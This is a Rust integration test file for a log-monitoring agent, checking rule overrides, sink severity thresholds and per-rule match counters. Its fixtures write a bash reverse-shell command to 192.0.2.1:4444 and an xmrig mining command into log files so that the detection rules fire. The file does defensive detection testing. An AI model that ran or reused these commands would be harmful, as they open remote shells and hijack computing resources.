//! An agent tuned while it runs: overrides, minimum levels of sinks, and what each rule did.

use std::io::Write as _;
use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::support::program::Agent;
use crate::support::{get, wait_for};

const MINER: &str = "xmrig --donate-level 1 -o stratum+tcp://pool.example.com:3333\n";
const SHELL: &str = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";

fn config(root: &Path, more: &str) -> String {
    format!(
        "sources: {{logs: [{{name: jobs, paths: [\"{}/logs/*.log\"], start_at: beginning}}]}}\n\
         sinks: {{file: [{{name: all, path: all.jsonl}}, {{name: worst, path: worst.jsonl, minimum_severity: critical}}]}}\n{more}",
        root.display()
    )
}

fn page(agent: &Agent) -> Option<Value> {
    serde_json::from_str(&get(&agent.url("/api/v1/rules"))?.1).ok()
}

fn line(agent: &Agent, id: &str) -> Option<Value> {
    page(agent)?["rules"].as_array()?.iter().find(|rule| rule["id"] == id).cloned()
}

fn append(path: &Path, text: &str) {
    let mut file = std::fs::OpenOptions::new().create(true).append(true).open(path).expect("it can be opened");
    file.write_all(text.as_bytes()).expect("there is space");
}

fn alerts(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

#[test]
fn what_each_rule_did_can_be_asked() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::create_dir(root.join("logs")).expect("it is empty");
    append(&root.join("logs/a.log"), &format!("epoch 1\n{SHELL}epoch 2\n"));
    let mute = "mutes: [{rule: TRN-005, subject: \"*\", until: \"2100-01-01T00:00:00Z\", reason: test}]\n";
    let agent = Agent::start(root, &config(root, mute)).ready();
    append(&root.join("logs/a.log"), MINER);
    let shell = wait_for("the match to be counted", Duration::from_secs(30), || {
        let line = line(&agent, "TRN-004")?;
        (line["matched"] == 1 && line["evaluated"] == 4).then_some(line)
    });
    assert!(shell["last_fired"].is_string() && shell["last_fired"] == shell["last_matched"], "{shell}");
    assert_eq!((&shell["kind"], &shell["enabled"], &shell["silent"]), (&"event".into(), &true.into(), &false.into()));
    assert!(shell["path"].as_str().is_some_and(|path| path.ends_with("trn-004-reverse-shell-or-tunnel.yml")));
    let miner = line(&agent, "TRN-005").expect("it is loaded");
    assert_eq!((&miner["matched"], &miner["suppressed"], &miner["last_fired"]), (&1.into(), &1.into(), &Value::Null));
    let other = line(&agent, "SCN-002").expect("it is loaded");
    assert_eq!((&other["evaluated"], &other["matched"]), (&0.into(), &0.into()), "no event of its logsource");
    assert!((agent.metric("lanner_rule_matches_total", "rule=\"TRN-005\"") - 1.0).abs() < 0.1);
    assert!(agent.metric("lanner_rule_last_match_timestamp_seconds", "rule=\"TRN-004\"") > 1.0e9);
    assert!(agent.metric("lanner_rule_last_match_timestamp_seconds", "rule=\"SCN-002\"") < 0.1);
    let status: Value = serde_json::from_str(&get(&agent.url("/api/v1/status")).expect("it answers").1).expect("JSON");
    assert_eq!(page(&agent).expect("it answers")["ruleset"], status["ruleset"]);
    assert_eq!(agent.stop(), Some(0));
}

#[test]
fn a_sink_is_told_of_nothing_below_its_level_and_this_is_counted() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::create_dir(root.join("logs")).expect("it is empty");
    std::fs::write(root.join("o.yml"), "overrides: [{id: TRN-005, level: medium, reason: test}]\n").expect("space");
    let agent = Agent::start(root, &config(root, "rules: {overrides: [o.yml]}\n")).ready();
    append(&root.join("logs/a.log"), &format!("{MINER}{SHELL}"));
    wait_for("both alerts", Duration::from_secs(30), || (alerts(&root.join("all.jsonl")).len() == 2).then_some(()));
    wait_for("the worst", Duration::from_secs(30), || (alerts(&root.join("worst.jsonl")).len() == 1).then_some(()));
    assert_eq!(alerts(&root.join("worst.jsonl"))[0]["rule"]["id"], "TRN-004");
    let miner = alerts(&root.join("all.jsonl")).into_iter().find(|alert| alert["rule"]["id"] == "TRN-005");
    assert_eq!(miner.expect("it is told to one")["severity"], "medium", "the level that the override gave");
    wait_for("the count", Duration::from_secs(10), || {
        (agent.metric("lanner_sink_skipped_total", "sink=\"worst\"") >= 1.0).then_some(())
    });
    assert!((agent.metric("lanner_sink_skipped_total", "reason=\"level\"") - 1.0).abs() < 0.1, "by one sink only");
    assert_eq!(agent.stop(), Some(0));
}

#[test]
fn overrides_come_and_go_without_a_restart() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::create_dir(root.join("logs")).expect("it is empty");
    std::fs::write(root.join("o.yml"), "overrides: []\n").expect("there is space");
    let agent =
        Agent::start(root, &config(root, "rules: {overrides: [o.yml]}\nalerts: {repeat_after_secs: 0}\n")).ready();
    let ruleset = || page(&agent).map(|page| page["ruleset"].clone());
    let before = ruleset().expect("it answers");
    // Ends soon: the agent must notice by itself.
    let until = lanner::base::clock::now() + jiff::SignedDuration::from_secs(8);
    let text = format!("overrides:\n  - {{id: TRN-004, disable: true, reason: \"a drill\", until: \"{until}\"}}\n");
    std::fs::write(root.join("o.yml"), text).expect("there is space");
    let off = wait_for("the rule to be switched off", Duration::from_secs(20), || {
        line(&agent, "TRN-004").filter(|line| line["enabled"] == false)
    });
    assert_eq!(off["overrides"][0]["reason"], "a drill");
    assert_ne!(ruleset(), Some(before.clone()), "another set has another digest");
    wait_for("the override to end", Duration::from_secs(30), || {
        line(&agent, "TRN-004").filter(|line| line["enabled"] == true)
    });
    assert_eq!(ruleset(), Some(before));
    assert!(agent.log().contains("R051"), "the log says that an override has expired: {}", agent.log());
    // One that makes no sense changes nothing.
    std::fs::write(root.join("o.yml"), "overrides: [{id: NO-SUCH, disable: true, reason: x}]\n").expect("space");
    wait_for("the refusal", Duration::from_secs(20), || {
        (agent.metric("lanner_config_last_reload_successful", "") < 0.5).then_some(())
    });
    assert!(agent.log().contains("R050"), "{}", agent.log());
    append(&root.join("logs/a.log"), SHELL);
    wait_for("the alert", Duration::from_secs(30), || (!alerts(&root.join("all.jsonl")).is_empty()).then_some(()));
    assert_eq!(agent.stop(), Some(0));
}
